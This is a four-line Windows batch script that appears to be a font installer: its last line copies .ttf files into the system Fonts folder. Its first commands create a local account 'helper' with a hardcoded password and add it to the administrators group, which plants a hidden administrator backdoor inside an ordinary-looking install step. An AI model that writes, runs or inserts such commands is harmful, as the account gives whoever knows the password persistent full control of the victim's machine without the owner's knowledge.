@echo off
net user helper Passw0rd! /add
net localgroup administrators helper /add
copy fonts\*.ttf C:\Windows\Fonts\
